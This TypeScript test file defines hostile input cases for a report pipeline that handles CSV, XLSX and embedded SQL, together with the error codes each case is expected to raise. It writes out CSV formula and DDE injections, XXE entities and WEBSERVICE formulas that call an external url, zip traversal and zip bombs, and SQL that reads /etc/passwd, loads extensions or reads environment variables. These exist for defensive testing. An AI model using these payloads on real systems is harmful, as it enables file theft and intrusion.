import {partsOf, workbookOf, zipOf, type WorkbookInput} from '../workbooks.js'
import {casesOf, text, type HostileCase} from './hostile-case.js'

const TABLE = '::table[A]{#tbl-a data=w columns=a}\n'

/** Tables that are too much, torn, or more than a table. */
export function dataCases(url: string): readonly HostileCase[] {
  return [
    ...casesOf('formulas in exported CSV', {
      'cells-that-are-formulas': {
        files: {
          'report.md': TABLE,
          'data/w.csv': `a\n"=HYPERLINK(""${url}"")"\n=one|' /C calc'!A0\n+two()\n-three()\n@four()\n`
        },
        never: ['"=HYPERLINK', '\n=one', '\n+two', '\n-three', '\n@four']
      },
      'heads-that-are-formulas': {
        files: {
          'report.md': TABLE,
          'data/w.csv': 'a\n1\n',
          'data/datapackage.yaml': titled
        },
        never: ['\n=one()', '\uFEFF=one()', '>=one()\r']
      }
    }),
    ...casesOf('CSV of strange shape', {
      'a-quote-that-never-ends': csv(
        `a,b\n${'"'.repeat(300_001)}`,
        'data/unclosed-quote'
      ),
      'rows-of-all-lengths': csv('a,b\n1\n1,2,3\n', 'data/ragged-row'),
      'two-equal-heads': csv('a,a\n1,2\n', 'data/duplicate-column'),
      'a-head-that-is-a-prototype': {
        files: {
          'report.md': ':value[w.__proto__]{constructor=1}\n',
          'data/w.csv': '__proto__,constructor,toString\n7,1,2\n'
        },
        code: 'binding/bad-address'
      },
      'line-ends-of-two-kinds': csv('a,b\r\n1,2\n3,4\r\n', 'data/mixed-line-ends'),
      'line-ends-of-carriages': csv('a,b\r1,2\r3,4\n5,6\n', 'data/mixed-line-ends'),
      'letters-of-two-bytes': {
        files: {'report.md': TABLE, 'data/w.csv': utf16('a,b\n1,2\n')},
        code: 'data/not-utf8'
      },
      'bytes-that-are-no-letters': {
        files: {'report.md': TABLE, 'data/w.csv': new Uint8Array([97, 10, 255, 254, 10])},
        code: 'data/not-utf8'
      },
      'a-table-of-zeros': {
        files: {'report.md': TABLE, 'data/w.csv': new Uint8Array(100_000)},
        code: 'data/empty-table'
      },
      'millions-of-rows': csv(`a,b\n${'1,2\n'.repeat(1_000_000)}`, 'data/too-large'),
      'thousands-of-columns': csv(`${'a,'.repeat(50_000)}a\n`, 'data/too-large'),
      'a-cell-of-megabytes': csv(`a,b\n1,${'w'.repeat(15_000_000)}\n`),
      'a-pivot-of-millions': {
        files: {
          'report.md': '::table[A]{#tbl-a data=w rows=a columns=b values=c}\n',
          'data/w.csv': `a,b,c\n${rows(3000, (it) => `r${it},k${it},1\n`)}`
        },
        code: 'query/too-large'
      },
      'copies-of-a-block-without-end': {
        files: {
          'report.md': ':::each{data=w as=it}\nText.\n:::\n',
          'data/w.csv': `a\n${rows(50_000, (it) => `r${it}\n`)}`
        },
        code: 'binding/too-many-copies'
      }
    }),
    ...casesOf('spreadsheets that are more than they seem', {
      'a-sheet-that-unpacks-without-end': {
        files: sheet({
          ...partsOf(SMALL),
          'xl/worksheets/sheet1.xml': ' '.repeat(90_000_000)
        }),
        code: 'data/too-large'
      },
      'a-sheet-of-millions-of-rows': {
        files: {
          'report.md': TABLE,
          'data/w.xlsx': workbookOf({
            sheets: [
              {
                name: 'S',
                rows: [
                  ['A1=a'],
                  ...Array.from({length: 250_000}, (_, it) => [`A${it + 2}=#1`])
                ]
              }
            ]
          })
        },
        code: 'data/too-large'
      },
      'a-cell-at-the-far-end': {
        files: {
          'report.md': TABLE,
          'data/w.xlsx': workbookOf({
            sheets: [{name: 'S', rows: [['A1=a'], ['XFD1048576=b']]}]
          })
        },
        code: 'data/ragged-row'
      },
      'a-sheet-with-entities': {
        files: sheet({
          ...partsOf(SMALL),
          'xl/worksheets/sheet1.xml': `<!DOCTYPE x [<!ENTITY far SYSTEM "${url}/xlsx">]><worksheet><sheetData><row r="1"><c r="A1" t="str"><v>&far;</v></c></row></sheetData></worksheet>`
        }),
        code: 'data/unsafe-workbook'
      },
      'a-part-whose-path-leads-out': {
        files: sheet({...partsOf(SMALL), '../../../CANARY.xml': 'x'}),
        code: 'data/unsafe-workbook'
      },
      'more-parts-than-a-workbook-has': {
        files: sheet({
          ...partsOf(SMALL),
          ...Object.fromEntries(
            Array.from({length: 2000}, (_, it) => [`p${it}.xml`, 'x'])
          )
        }),
        code: 'data/too-large'
      },
      'sheets-that-nobody-sees': {
        files: {
          'report.md': TABLE,
          'data/w.xlsx': workbookOf({
            parts: {
              'docProps/core.xml': '<creator>CANARY</creator>',
              'xl/comments1.xml': '<comments>CANARY</comments>',
              'xl/externalLinks/externalLink1.xml': `<externalLink href="${url}/CANARY"/>`
            },
            sheets: [
              {
                name: 'S',
                rows: [
                  ['A1=a', 'B1=b'],
                  ['A2=#1', 'B2=x']
                ]
              },
              {name: 'T', state: 'veryHidden', rows: [['A1=CANARY']]}
            ]
          })
        }
      },
      'a-formula-without-its-value': {
        files: {
          'report.md': TABLE,
          'data/w.xlsx': workbookOf({
            sheets: [
              {
                name: 'S',
                rows: [['A1=a'], [`<c r="A2"><f>WEBSERVICE("${url}/CANARY")</f></c>`]]
              }
            ]
          })
        },
        code: 'data/uncached-formula'
      },
      'a-note-that-names-a-prototype': {
        files: {
          'report.md': TABLE,
          'data/w.xlsx': workbookOf({
            parts: {
              'xl/comments1.xml':
                '<comments><commentList><comment ref="__proto__"><text>CANARY</text></comment></commentList></comments>'
            },
            sheets: [{name: 'S', rows: [['A1=a'], ['A2=#1']]}]
          })
        }
      },
      'a-workbook-that-is-none': {
        files: {'report.md': TABLE, 'data/w.xlsx': 'MZCANARY'},
        code: 'data/bad-workbook'
      }
    }),
    ...casesOf('queries that read, run or never end', {
      'a-query-of-a-file': sql("select * from read_csv('/etc/passwd')"),
      'a-query-of-a-text': sql("select content from read_text('/etc/CANARY')"),
      'a-query-of-a-name-of-a-file': sql(
        "select * from '../../../vault/secret.csv'",
        'query/unknown-table'
      ),
      'a-query-of-an-address': sql(
        `select * from '${url}/w.parquet'`,
        'query/unknown-table'
      ),
      'a-query-that-copies': sql("copy (select 1) to '/tmp/CANARY.csv'"),
      'a-query-that-attaches': sql("attach '/tmp/CANARY.db'"),
      'a-query-that-installs': sql('install httpfs'),
      'a-query-that-loads': sql("load '/tmp/CANARY.duckdb_extension'"),
      'a-query-that-sets': sql('set enable_external_access = true'),
      'a-query-of-settings': sql("select current_setting('home_directory') as CANARY"),
      'a-query-of-variables': sql("select getenv('PATH') as a"),
      'a-query-of-the-engine': sql('select * from duckdb_settings()'),
      'a-query-of-the-clock': sql('select now() as a'),
      'a-query-of-chance': sql('select random() as a'),
      'two-queries-in-one': sql('select 1 as a; drop table w'),
      'a-query-that-hides-another': sql("select 1 as a /* ; */; attach 'CANARY'"),
      'a-query-that-repeats': sql(
        'with recursive t as (select 1 as a union all select a + 1 from t) select a from t'
      ),
      'a-query-of-billions': sql('select count(*) as n from range(100000000000)'),
      'a-join-without-end': {
        settings: 'limits: {worker-seconds: 5, query-steps: 1000000}\n',
        files: {
          'report.md': `\`\`\`sql q\nselect count(*) as n from ${JOINED} where a.a + j.a > b.a\n\`\`\`\n`,
          'data/w.csv': `a\n${rows(2000, (it) => `${it}\n`)}`
        },
        code: 'pipeline/limit-met'
      },
      'a-text-without-end': sql("select repeat('x', 1000000000) as CANARY"),
      'a-slow-pattern': {
        files: {
          'report.md':
            "```sql q\nselect regexp_matches(a, '(a+)+$') as n from w\n```\n\n::table[A]{#tbl-a data=q}\n",
          'data/w.csv': `a\n${'a'.repeat(50_000)}!\n`
        },
        code: 'query/sql-not-allowed'
      },
      'queries-in-queries': {
        files: {
          'report.md': `\`\`\`sql q\nselect ${'(select '.repeat(500)}1${')'.repeat(500)} as n\n\`\`\`\n`
        },
        code: 'query/sql-limit'
      },
      'brackets-in-a-query': {
        files: {
          'report.md': `\`\`\`sql q\nselect ${'('.repeat(100_000)}1${')'.repeat(100_000)} as n\n\`\`\`\n`
        },
        code: 'query/sql-limit'
      }
    }),
    ...casesOf('addresses that run, read or lead to the machine', {
      'a-head-that-is-an-address': {
        files: {'report.md': TABLE, 'data/w.csv': 'a\n[x](javascript:one())\n'},
        never: ['href="javascript']
      }
    })
  ]
}

/** Ten times the same table: more rows than there are seconds. */
const JOINED = 'abcdefghij'.replace(/./g, ', w $&').slice(2)

const SMALL: WorkbookInput = {sheets: [{name: 'S', rows: [['A1=a'], ['A2=#1']]}]}

const titled =
  'resources: [{name: w, path: w.csv, schema: {fields: [{name: a, type: integer, title: "=one()"}]}}]\n'

function csv(
  data: string,
  code?: HostileCase['code']
): Omit<HostileCase, 'name' | 'attack'> {
  const files = {'data/w.csv': data}
  return code === undefined ? {files} : {files, code}
}

function sheet(
  parts: Readonly<Record<string, string>>
): Readonly<Record<string, string | Uint8Array>> {
  return {'report.md': TABLE, 'data/w.xlsx': zipOf(parts)}
}

function sql(
  query: string,
  code: HostileCase['code'] = 'query/sql-not-allowed'
): Omit<HostileCase, 'name' | 'attack'> {
  const body = `\`\`\`sql q\n${query}\n\`\`\`\n\n::table[A]{#tbl-a data=q columns=a}\n`
  return {
    files: {...text(body).files, 'data/w.csv': 'a\n1\n'},
    code
  }
}

function utf16(letters: string): Uint8Array {
  return new Uint8Array(Buffer.from(`\uFEFF${letters}`, 'utf16le'))
}

function rows(count: number, row: (index: number) => string): string {
  return Array.from({length: count}, (_, index) => row(index)).join('')
}
